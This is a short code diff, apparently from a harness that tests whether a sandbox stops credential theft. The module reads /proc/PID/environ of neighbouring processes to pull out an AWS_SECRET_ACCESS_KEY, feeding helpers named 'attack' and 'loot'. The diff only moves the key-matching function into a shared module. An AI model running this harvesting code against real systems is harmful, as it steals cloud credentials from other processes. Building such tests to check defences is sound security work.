@@ -4,16 +4,7 @@ Means: open() on /proc/PID/environ: the plain way, against which the others are 
        preloaded library that wraps open(3) does not see it: CPython calls open64(3).
 """
 
-from attack import DONE, attempting, denied, loot, neighbours
-
-
-def credential(path):
-    """The credential in an environ file, or None."""
-    with open(path, "rb") as file:
-        for entry in file.read().split(b"\0"):
-            if entry.startswith(b"AWS_SECRET_ACCESS_KEY="):
-                return entry
-    return None
+from attack import DONE, attempting, credential, denied, loot, neighbours
 
 
 def run(brief):
@@ -21,7 +12,8 @@ def run(brief):
     attempting()
     for pid in neighbours(brief):
         try:
-            found = credential(f"/proc/{pid}/environ")
+            with open(f"/proc/{pid}/environ", "rb") as file:
+                found = credential(file.read())
         except OSError as error:
             why = error
             continue
